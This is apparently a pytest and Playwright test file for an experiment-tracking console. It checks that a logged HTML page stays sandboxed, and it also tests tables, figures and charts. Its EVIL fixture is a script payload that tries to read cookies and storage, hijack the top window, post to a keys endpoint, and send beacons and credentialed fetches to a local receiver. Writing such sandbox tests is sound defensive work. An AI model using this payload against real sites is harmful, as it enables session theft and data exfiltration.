"""What scripts log for people to look at: sorted, drawn, and, where it is a page of its own, kept in its frame."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect
from tests.support.browser import Tab
from tests.support.receivers import Received, receiving

import danlu
from danlu.testing.serving import RunningServer

Logged = tuple[str, str, list[Received]]
EVIL = """
<p id=told>nothing</p><form action="/api/v1/keys" method=post id=form><input name=a></form>
<script>
const told = {};
const attempt = (name, what) => { try { told[name] = String(what()); } catch (error) { told[name] = error.name; } };
attempt("origin", () => self.origin);
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location = "http://127.0.0.1:PORT/top"; return "asked"; });
attempt("popup", () => String(open("http://127.0.0.1:PORT/popup")));
attempt("form", () => { document.getElementById("form").submit(); return "asked"; });
new Image().src = "http://127.0.0.1:PORT/image";
attempt("beacon", () => { navigator.sendBeacon("http://127.0.0.1:PORT/beacon", "x"); return 1; });
const asked = ["/api/v1/auth/me", "http://127.0.0.1:PORT/fetch"].map(address =>
  fetch(address, {credentials: "include"}).then(() => "came", error => error.name));
Promise.all(asked).then(found => {
  told.fetch = found.join();
  document.getElementById("told").textContent = JSON.stringify(told);
});
</script>
"""
SCRIPT = """
import sys
from danlu import track

class Drawn:
    def to_plotly_json(self): ...
    def to_json(self):
        return '{"data": [{"x": [1, 2], "y": [3, 1]}], "layout": {"title": {"text": "a drawn figure"}}}'

run = track.start("evil")
run.log_html("page", sys.argv[1])
run.finish()
print(run.id)
run = track.start("shown", group="pictures", hparams={"a": 1})
run.log_table("worst", ["file", "loss"], [["a.png", 10.5], ["b.png", 9.25], ["c.png", None]], step=1)
run.log_confusion_matrix("errors", [0, 1, 1], [0, 1, 0], labels=["cat", "dog"])
run.log_roc_curve("roc", [0, 1, 1], [0.1, 0.9, 0.4])
run.log_images("batch", [[[[0.5, 0.5, 0.5]] * 4] * 4] * 2, captions=["first", "second"])
run.log_figure("figure", Drawn())
for step in range(10):
    run.log("train", {"samples": step * 64.0}, step)
    run.log("val", {"loss": 1.0 / (step + 1)}, step)
run.define_axis("val/*", "samples")
run.alert("loss is low", "as it should be", "warning")
run.finish()
print(run.id)
"""


@pytest.fixture(scope="module")
def logged(console: RunningServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Logged]:
    """The runs, and what a receiver on this machine was sent by the page of the first one."""
    folder = tmp_path_factory.mktemp("logged")
    (folder / "train.py").write_text(SCRIPT)
    env = {
        **os.environ,
        "PYTHONPATH": str(Path(danlu.__file__).parents[1]),
        "DANLU_CONFIG": str(folder / "none.yml"),
        "DANLU_URL": console.url,
        "DANLU_API_KEY": console.api_key,
    }
    command = [sys.executable, "train.py"]
    with receiving() as receiver:
        evil = EVIL.replace("PORT", str(receiver.port))
        done = subprocess.run([*command, evil], cwd=folder, env=env, capture_output=True, text=True, check=True)
        first, second = done.stdout.split()
        yield first, second, receiver.got


def test_a_page_reaches_neither_the_console_nor_anything_else(
    logged: Logged, admin: Tab, console: RunningServer
) -> None:
    run, _, received = logged
    page = admin.go(f"/experiments/{run}?tab=media")
    told = page.frame_locator("iframe").locator("#told")
    expect(told).not_to_have_text("nothing")
    assert told.evaluate("told => JSON.parse(told.textContent)") == {
        "origin": "null",
        "cookie": "SecurityError",
        "storage": "SecurityError",
        "parent": "SecurityError",
        "top": "SecurityError",
        "popup": "null",
        "form": "asked",
        "beacon": "1",
        "fetch": "TypeError,TypeError",
    }
    assert page.url.startswith(f"{console.url}/experiments/{run}"), "nothing led the console elsewhere"
    # opened by itself it is no page of the server either
    address = page.locator("iframe").get_attribute("src") or ""
    policy = page.request.get(f"{console.url}{address}" if address.startswith("/") else address).headers
    assert policy["content-security-policy"].startswith("sandbox allow-scripts; default-src 'none'")
    assert received == []


def test_tables_sort_and_figures_are_drawn(logged: Logged, admin: Tab) -> None:
    _, run, _ = logged
    page = admin.go(f"/experiments/{run}?tab=media")
    card = page.locator("figure").first
    card.wait_for()
    edges = card.evaluate("card => [card.getBoundingClientRect().x, card.parentElement.getBoundingClientRect().x]")
    assert edges[0] == edges[1], "cards fill the width"
    table = page.get_by_role("region", name="train/worst")
    first = table.locator("tbody tr").first
    table.get_by_role("button", name="loss").click()
    expect(first).to_contain_text("b.png")  # by size: 9.25 before 10.5
    table.get_by_role("button", name="loss").click()
    expect(first).to_contain_text("a.png")
    expect(page.get_by_role("region", name="val/errors").get_by_role("cell").first).to_have_text("1")
    expect(page.get_by_role("img", name="val/roc")).to_be_visible()
    expect(page.get_by_role("img", name="second")).to_be_visible()
    page.locator("iframe").scroll_into_view_if_needed()  # its page is loaded when it comes near
    frame = page.frame_locator("iframe")
    expect(frame.get_by_text("a drawn figure")).to_be_visible()
    expect(page.locator("main").get_by_text("as it should be")).to_be_visible()  # the bell tells it, too
    expect(page.get_by_role("link", name="pictures")).to_be_visible()


def test_charts_are_over_what_the_script_named(logged: Logged, admin: Tab) -> None:
    _, run, _ = logged
    page = admin.go(f"/experiments/{run}")
    page.get_by_role("radio", name="Set by script").or_(page.get_by_role("button", name="Set by script")).first.click()
    page.get_by_role("region", name="val/loss").or_(page.get_by_label("loss", exact=True)).first.wait_for()
    expect(page).to_have_url(re.compile(r"[?&]axis=own"))
